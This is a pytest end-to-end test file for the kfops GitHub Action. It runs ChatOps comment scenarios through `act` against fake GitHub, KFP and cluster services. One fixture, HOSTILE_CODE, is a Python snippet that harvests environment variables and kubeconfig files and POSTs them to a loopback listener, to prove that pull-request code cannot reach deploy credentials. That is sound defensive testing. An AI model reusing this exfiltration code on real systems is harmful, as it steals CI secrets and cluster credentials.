"""The Action end to end, as GitHub runs it: `act` runs the workflow users copy
(workflows/kfops.yml, unchanged) for real issue_comment webhook payloads.

- The event: an example payload from npm @octokit/webhooks-examples, changed only where the
  scenario needs (repository, number, comment, author; `issue.pull_request` for a PR), and
  validated against GitHub's webhook schema (npm @octokit/webhooks-schemas) first.
- The job: act reads the workflow's trigger, job `if`s, permissions and concurrency and runs each
  job in a container of a runner image (git, the docker CLI, the engine's socket), as a
  GitHub-hosted runner would, with the action as a release publishes it: action.yml names kfops'
  image by digest, built from the Dockerfile by a real container engine (tests/e2e/engine.py).
  Every scenario runs in both runtimes, selected by the repository variable KFOPS_RUNTIME as a
  user would: `python` (installed on the first job, restored from the cache on the next ones)
  and `docker` (the image, by `docker run` from the action's shell step). actions/checkout and
  actions/cache are local stand-ins (tests/e2e/actions/README.md).
- The world: the fake GitHub behind Prism (every request and answer checked against GitHub's
  API description), the fake KFP server (held to KFP's API models), and a local git server
  holding the model repository with its pull-request refs.

Each scenario is one row of SCENARIOS: the comments, in order, and what must follow.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from conftest import FAKE_TOKEN, require_infra

from e2e import webhooks
from e2e.act import HOW_TO as ACT_HOW_TO
from e2e.act import Act, act_binary
from e2e.github import E2EGitHub, PrismLog
from e2e.repos import ModelRepository, base_config, make_repository
from e2e.engine import HOW_TO as ENGINE_HOW_TO
from e2e.engine import EngineUnavailable, engine, kfops_image, runner_image
from e2e.runtime import act_cache_home, pinned_action_dir
from fakes.deploy_fixtures import admin, endpoint, kserve, namespace  # noqa: F401

pytestmark = pytest.mark.infra

OWNER, REPO = "kfops-org", "model"
GITHUB_TOKEN = "ghs_kfopsE2eToken00001111222233334444555"
SAME_REPO_PR, FORK_PR, PLAIN_ISSUE = 7, 8, 9
RUNTIMES = ("python", "docker")

# Three problems, on lines 4, 5 and 7 of kfops.yaml on the base branch.
BROKEN_BASE_CONFIG = """version: 1
pipeline:
  file: pipeline.py
  function: 3
  colour: blue
chatops:
  allow_forks: maybe
"""


@dataclass(frozen=True)
class Comment:
    body: str
    user: str = "alice"
    role: str = "write"
    on: int = SAME_REPO_PR
    action: str = "created"


@dataclass(frozen=True)
class Expect:
    jobs: dict[str, str]                    # jobs that ran for the last comment, and their result
    replies: tuple[str, ...] = ()           # in the PR's comments (bot's), in any order
    reactions: tuple[str, ...] | None = None  # on the last comment
    kfp_runs: int = 0
    parameters: dict[str, Any] = field(default_factory=dict)   # of the run, as KFP received them
    no_requests: bool = False               # the job never started: GitHub saw nothing at all
    merged: bool = False
    labels: tuple[str, ...] = ()


@dataclass(frozen=True)
class Scenario:
    id: str
    comments: tuple[Comment, ...]
    expect: Expect
    base_config: str | None = None          # kfops.yaml on `main` (None: the example's)
    marks: tuple[Any, ...] = field(default_factory=tuple)
    deploys: bool = False                   # needs the cluster side (API server, KServe stand-in, MLMD)


SCENARIOS = [
    Scenario("build_run-same-repo", (Comment("/build_run --set pipeline.parameters.epochs=5"),),
             Expect({"authorize": "success", "pipeline": "success"},
                    replies=("`/build_run` succeeded", "quickstart-classifier-pr7-{head7}-"),
                    reactions=("eyes", "rocket"), kfp_runs=1, parameters={"epochs": 5})),
    # Refused by the authorize job: the deploy job never starts, so it never enters (and never
    # displaces a waiting job of) the production concurrency group.
    Scenario("deploy-by-write-user-refused", (Comment("/deploy", user="bob", role="write"),),
             Expect({"authorize": "success"},
                    replies=("@bob cannot run /deploy here: it needs maintain, bob has write.",),
                    reactions=("eyes", "confused"))),
    Scenario("fork-build_run-refused", (Comment("/build_run", user="carol", role="maintain", on=FORK_PR),),
             Expect({"authorize": "success"},
                    replies=("@carol cannot run /build_run here: this pull request comes from the fork "
                             "`mallory/model`.", "Nothing was run."),
                    reactions=("eyes", "confused"))),
    Scenario("edited-comment-ignored", (Comment("/build_run", action="edited"),),
             Expect({}, no_requests=True)),
    Scenario("plain-issue-comment-ignored", (Comment("/build_run", on=PLAIN_ISSUE),),
             Expect({}, no_requests=True)),
    Scenario("broken-base-config-reported", (Comment("/build_run"),),
             Expect({"authorize": "failure"},
                    replies=("@alice /build_run was not run: kfops.yaml on `main` is invalid",
                             "kfops.yaml@main:4:13: pipeline.function: must be a string",
                             "kfops.yaml@main:5:3: pipeline.colour: unknown key 'colour'",
                             "kfops.yaml@main:7:16: chatops.allow_forks: must be true or false"),
                    reactions=("eyes", "confused")),
             base_config=BROKEN_BASE_CONFIG),
    Scenario("build_run-then-deploy-merged-and-labelled",
             (Comment("/build_run"), Comment("/deploy", user="maria", role="maintain")),
             Expect({"authorize": "success", "deploy": "success"},
                    replies=("`/deploy` succeeded", "Deployed to production",
                                                    "Merged (squash)"),
                    reactions=("eyes", "rocket"), kfp_runs=1, merged=True, labels=("Deployed-to-production",)),
             deploys=True),
]


# -- the world -----------------------------------------------------------------------------------


@dataclass
class World:
    act: Act
    github: E2EGitHub
    prism: PrismLog
    repo: ModelRepository
    scratch: Path


@pytest.fixture(scope="module")
def e2e_github() -> Iterator[tuple[E2EGitHub, PrismLog]]:
    from fakes.github_prism import SPEC_HOW_TO, github_spec, start_prism
    from fakes.prism import INSTALL_HOW_TO, prism_binary

    if prism_binary() is None:
        require_infra("Prism", INSTALL_HOW_TO)
    if github_spec() is None:
        require_infra("GitHub's OpenAPI description", SPEC_HOW_TO)
    fake = E2EGitHub(token=GITHUB_TOKEN, owner=OWNER, repo=REPO).start()
    prism = start_prism(fake.url)
    fake.public_url = prism.url
    try:
        yield fake, PrismLog(prism)
    finally:
        prism.stop()
        fake.stop()


@pytest.fixture(scope="module")
def act_tool() -> Act:
    binary = act_binary()
    if binary is None:
        require_infra("act", ACT_HOW_TO)
    if not webhooks.available():
        require_infra("GitHub's webhook examples and schemas", webhooks.HOW_TO)
    try:
        host = engine()
    except EngineUnavailable as exc:
        require_infra(f"a container engine ({exc})", ENGINE_HOW_TO)
        raise
    assert binary is not None
    cache = act_cache_home() / "actions-cache"  # the cache/restore and cache/save stand-ins' store
    cache.mkdir(exist_ok=True)
    return Act(binary, pinned_action_dir(kfops_image()), act_cache_home(), host, runner_image(),
               shared={"KFOPS_E2E_CACHE_ROOT": cache})


@pytest.fixture(params=RUNTIMES)
def runtime(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def world(act_tool: Act, e2e_github: tuple[E2EGitHub, PrismLog], fake_kfp: Any, tmp_path: Path,
          runtime: str) -> World:
    github, prism = e2e_github
    github.reset()
    fake_kfp.run_states = ["SUCCEEDED"]  # the run ends at the first poll: no waiting in the test
    repo = make_repository(tmp_path, owner=OWNER, name=REPO, kubeflow_endpoint=fake_kfp.url)
    repo.add_pull(SAME_REPO_PR, "tune the model")
    repo.add_pull(FORK_PR, "a contribution from a fork")
    github.add_pull(SAME_REPO_PR, head_sha=repo.heads[SAME_REPO_PR], user="alice")
    github.add_fork_pull(FORK_PR, head_sha=repo.heads[FORK_PR], fork_owner="mallory")
    github.add_issue(PLAIN_ISSUE, title="The model is slow")
    act = Act(act_tool.binary, act_tool.action_dir, act_tool.cache_home, act_tool.docker_host,
              act_tool.runner_image, shared={**act_tool.shared, "KFOPS_E2E_GIT_ROOT": repo.git_root},
              secrets={"GITHUB_TOKEN": GITHUB_TOKEN, "KFOPS_KUBEFLOW_TOKEN": FAKE_TOKEN},
              variables={"KFOPS_RUNTIME": runtime},
              env={"GITHUB_API_URL": github.public_url or github.url})
    return World(act, github, prism, repo, tmp_path)


def comment_on(world: World, comment: Comment) -> Any:
    """Post `comment` (as GitHub would have stored it) and run the workflow for its event."""
    github = world.github
    github.set_permission(comment.user, comment.role)
    comment_id = github.add_comment(comment.on, comment.body, user=comment.user)
    payload = webhooks.issue_comment(
        comment.action, api_url=github.api, web_url=github.web, owner=OWNER, repo=REPO, number=comment.on,
        comment_id=comment_id, body=comment.body, user=comment.user, pull_request=comment.on != PLAIN_ISSUE,
        created_at=github.comments[comment_id]["created_at"])  # the fake's clock, which also times its pushes
    world.prism.mark()
    before = len(github.requests)
    result = world.act.run(world.repo.clone, world.repo.clone / ".github" / "workflows" / "kfops.yml",
                           "issue_comment", payload, actor=comment.user, scratch=world.scratch / f"event-{comment_id}")
    return result, comment_id, before


def _bot_bodies(github: E2EGitHub, number: int) -> list[str]:
    return [c["body"] for c in github.comments_on(number) if c["_login"] == github.bot_login]


@dataclass
class Cluster:
    """The deploy side: the real API server (its kubeconfig is the action's `kubeconfig` input),
    a namespace with the KServe stand-in reconciling it, the model server, ML Metadata."""

    namespace: str
    kubeconfig: Path
    mlmd: Any
    api: Any


@pytest.fixture
def cluster(kube_api: Any, namespace: str, kserve: Any) -> Iterator[Cluster]:  # noqa: F811
    from fakes.mlmd_fake import FakeMlmd

    with FakeMlmd(token=FAKE_TOKEN) as mlmd:
        yield Cluster(namespace, kube_api.kubeconfig, mlmd, kube_api)


def deploy_base_config(endpoint: str, cluster: Cluster) -> str:
    """The example's kfops.yaml, deploying into the test namespace with short timeouts; the model's
    URI from the fake ML Metadata (the metrics gate is exercised in tests/test_chatops_deploy.py)."""
    import yaml

    data = yaml.safe_load(base_config(endpoint))
    data["metrics"].update(mlmd_endpoint=cluster.mlmd.url, gate=False)
    for section in data["deployment"].values():
        section.update(namespace=cluster.namespace, timeouts={"ready": 20, "promote": 20, "rollback": 20, "poll": 0.1})
        section["endpoint_check"].update(retries=1, request_timeout=5)
    return yaml.safe_dump(data, sort_keys=False)


def prepare_deploy(world: World, fake_kfp: Any, cluster: Cluster) -> str:
    """The files /deploy reads from `main`, the kubeconfig secret, and a model artifact the run outputs."""
    from fakes.deploy_fixtures import QUICKSTART

    for name in ("inference-service.yaml", "sample-request.json"):
        world.github.add_file(name, (QUICKSTART / name).read_text(encoding="utf-8"), ref="main")
    world.act.secrets["KFOPS_KUBECONFIG"] = cluster.api.self_contained_kubeconfig()
    world.github.set_permission("bob", "write")
    world.github.add_review(SAME_REPO_PR, "bob")  # production needs one approval of the head by default
    store = cluster.mlmd.store
    store.seed({"runs": [{"run_id": "e2e-train", "tasks": [{"name": "train", "model": True}]}]})
    [model] = [i for i, a in store.artifacts.items() if a.uri.endswith("/e2e-train/train/model")]
    fake_kfp.tasks = ["train", "evaluate"]
    fake_kfp.task_outputs = {"train": {"model": [str(model)]}}
    return deploy_base_config(fake_kfp.url, cluster)


@pytest.mark.parametrize("scenario", [pytest.param(s, id=s.id, marks=s.marks) for s in SCENARIOS])
def test_workflow_end_to_end(world: World, fake_kfp: Any, scenario: Scenario, request: pytest.FixtureRequest) -> None:
    github = world.github
    config = scenario.base_config or base_config(fake_kfp.url)
    cluster: Cluster | None = None
    if scenario.deploys:
        cluster = request.getfixturevalue("cluster")
        config = prepare_deploy(world, fake_kfp, cluster)
    github.add_file("kfops.yaml", config, ref="main")
    for comment in scenario.comments:
        result, comment_id, before = comment_on(world, comment)
    expect, last = scenario.expect, scenario.comments[-1]

    assert result.jobs == expect.jobs, result.explain()
    failed = any(outcome == "failure" for outcome in expect.jobs.values())
    assert (result.returncode != 0) == failed, result.explain()
    if expect.no_requests:
        assert github.requests[before:] == [], result.explain()

    head = world.repo.heads.get(last.on, "")
    bodies = _bot_bodies(github, last.on)
    text = "\n".join(bodies)
    for wanted in expect.replies:
        assert wanted.format(head7=head[:7]) in text, f"{wanted!r} not in the PR's comments:\n{text}\n" \
                                                      + result.explain()
    if expect.reactions is not None:
        got = tuple(r["content"] for r in github.reactions.get(comment_id, []))
        assert got == expect.reactions, result.explain()
    assert len(fake_kfp.runs) == expect.kfp_runs, result.explain()
    if expect.kfp_runs:
        [run] = fake_kfp.runs.values()
        assert run.body["display_name"].startswith(f"quickstart-classifier-pr{last.on}-{head[:7]}-")
        sent = run.body["runtime_config"]["parameters"]
        assert {k: sent.get(k) for k in expect.parameters} == expect.parameters
    pull = github.pulls[last.on]
    assert pull.merged == expect.merged, result.explain()
    for label in expect.labels:
        assert label in pull.labels
    if cluster is not None:  # what the cluster serves is the run's model, with its provenance
        from kfops_action.deploy.isvc import IsvcApi
        from kfops_action.deploy.kube import Kube

        live = IsvcApi(Kube(cluster.api.api_client())).get(cluster.namespace, "quickstart-classifier")
        assert live is not None, result.explain()
        annotations = live["metadata"]["annotations"]
        [run_id] = fake_kfp.runs
        assert annotations["kfops/run-id"] == run_id and annotations["kfops/commit"] == head
        assert annotations["kfops/model-uri"] == "s3://mlpipeline/v2/artifacts/e2e-train/train/model"
        assert [s["state"] for s in github.statuses[head] if s["context"] == "kfops/deploy"] == ["success", "pending"]

    # Secrets never reach the PR; every exchange kept to GitHub's API description.
    for secret in (GITHUB_TOKEN, FAKE_TOKEN):
        assert secret not in text
    assert world.prism.problems() == [], "\n".join(world.prism.problems())
    assert github.problems == [], github.problems


def test_scenarios_cover_every_job_of_the_workflow() -> None:
    """Each job of workflows/kfops.yml is exercised by at least one scenario that can run now."""
    import yaml

    jobs = set(yaml.safe_load((Path(__file__).resolve().parents[1] / "workflows" / "kfops.yml").read_text())["jobs"])
    running = [s for s in SCENARIOS if not s.marks]
    covered = {job for s in running for job in s.expect.jobs}
    # `chat` (/help, /status, /cancel, near misses) has no scenario in the brief yet: see below.
    assert covered >= jobs - {"chat"}, covered


def test_help_is_answered_by_the_authorize_job(world: World, fake_kfp: Any) -> None:
    """/help needs no other job: the authorize job answers it, without a checkout, with the base
    branch's policy."""
    world.github.add_file("kfops.yaml", base_config(fake_kfp.url), ref="main")
    result, comment_id, _ = comment_on(world, Comment("/help", user="dave", role="read"))
    assert result.jobs == {"authorize": "success"}, result.explain()
    [reply] = _bot_bodies(world.github, SAME_REPO_PR)
    assert re.search(r"@dave here you may run:", reply), reply
    assert [name for name, _ in result.steps("authorize") if "heck out" in name] == []
    assert world.prism.problems() == []


def test_python_runtime_warm_start_installs_nothing(world: World, fake_kfp: Any, runtime: str) -> None:
    """The python runtime's environment travels between jobs in actions/cache (keyed on the
    interpreter and what is installed): once one job has saved it, a job on a fresh runner
    restores it and pip installs nothing. The docker runtime never installs anything."""
    world.github.add_file("kfops.yaml", base_config(fake_kfp.url), ref="main")
    store = world.scratch / "actions-cache"   # this test's own cache: the first job is a cold one
    store.mkdir()
    world.act.shared["KFOPS_E2E_CACHE_ROOT"] = store
    cold, _, _ = comment_on(world, Comment("/help", user="dave", role="read"))
    assert cold.jobs == {"authorize": "success"}, cold.explain()
    if runtime == "python":  # an empty tool cache and no saved environment: installed, then saved
        assert "Cache not found for input keys: kfops-action-linux-" in cold.log, cold.explain()
        assert "-m pip" in cold.log and "Cache saved with key: kfops-action-linux-" in cold.log, cold.explain()
    result, _, _ = comment_on(world, Comment("/help", user="erin", role="read"))
    assert result.jobs == {"authorize": "success"}, result.explain()
    log = result.log
    assert "-m pip" not in log and "Installing collected packages" not in log, result.explain()
    if runtime == "python":
        assert "Cache restored from key: kfops-action-linux-" in log, result.explain()
        assert "kfops is already installed in /" in log, result.explain()
    else:
        assert "Cache restored" not in log and "Install kfops" not in [s for s, _ in result.steps("authorize")]


# -- the trust boundary, as the user's workflow draws it -----------------------------------------

HOSTILE_PR = 10
BUILD_KUBECONFIG = "apiVersion: v1\nkind: Config\n# kfops-e2e build credential: kfopsBuildOnly0000111122223333\n"
DEPLOY_KUBECONFIG = "apiVersion: v1\nkind: Config\n# kfops-e2e deploy credential: kfopsDeployOnly000011112222\n"
KUBEFLOW_TOKEN_IN_ENV = FAKE_TOKEN

# Appended to the pull request's pipeline.py: at import it collects every variable and every
# kubeconfig-like file it can reach, and sends them to a listener on loopback (the network is
# open to it, as on a real runner).
HOSTILE_CODE = """
import glob as _g, json as _j, os as _o, urllib.request as _u
_found = {"env": dict(_o.environ), "files": {}}
for _pattern in ("/tmp/**/kubeconfig", "/github/**/kubeconfig", _o.path.expanduser("~/.kube/config"),
                 "/home/**/.kube/config", "/root/.kube/config"):
    for _path in _g.glob(_pattern, recursive=True):
        try:
            _found["files"][_path] = open(_path).read()
        except OSError as _e:
            _found["files"][_path] = repr(_e)
_u.urlopen("http://127.0.0.1:%d/", data=_j.dumps(_found).encode(), timeout=10)
"""


@pytest.fixture
def spy() -> Iterator[tuple[int, list[dict[str, Any]]]]:
    """A listener on loopback that keeps what the hostile pipeline sends it."""
    import json
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    received: list[dict[str, Any]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # noqa: N802
            received.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], received
    finally:
        server.shutdown()


def test_pull_request_code_holds_no_deploy_credential(world: World, fake_kfp: Any,
                                                      spy: tuple[int, list[dict[str, Any]]]) -> None:
    """A write user's pull request whose pipeline.py steals what it can, run by `/build --dry-run`
    through the user's workflow: the PR's code runs (it reports in), but it finds no token and
    no deploy credential. The deploy kubeconfig exists only in the deploy job (a GitHub
    Environment's secret); the build kubeconfig, which the pipeline job holds for Kaniko, is a
    file the code is never told about."""
    port, received = spy
    head = world.repo.add_pull(HOSTILE_PR, "a faster model", code=HOSTILE_CODE % port)
    world.github.add_pull(HOSTILE_PR, head_sha=head, user="mallory")
    world.github.add_file("kfops.yaml", base_config(fake_kfp.url), ref="main")
    world.act.secrets.update(KFOPS_BUILD_KUBECONFIG=BUILD_KUBECONFIG, KFOPS_KUBECONFIG=DEPLOY_KUBECONFIG)
    result, _, _ = comment_on(world, Comment("/build --dry-run", user="mallory", role="write", on=HOSTILE_PR))
    assert result.jobs == {"authorize": "success", "pipeline": "success"}, result.explain()
    assert received, "the pull request's pipeline code did not run\n" + result.explain()
    stolen = json.dumps(received)
    for secret in (GITHUB_TOKEN, KUBEFLOW_TOKEN_IN_ENV, "kfopsDeployOnly000011112222", "kfopsBuildOnly0000111122223333"):
        assert secret not in stolen, f"the pull request's code got {secret[:12]}...: {stolen[:3000]}"
    env = received[0]["env"]
    assert not any(k.startswith(("GITHUB_", "INPUT_", "ACTIONS_", "KF_PIPELINES_", "KUBECONFIG")) for k in env), env
    text = "\n".join(_bot_bodies(world.github, HOSTILE_PR))
    assert "Dry run: pipeline `quickstart-classifier` compiles" in text, text
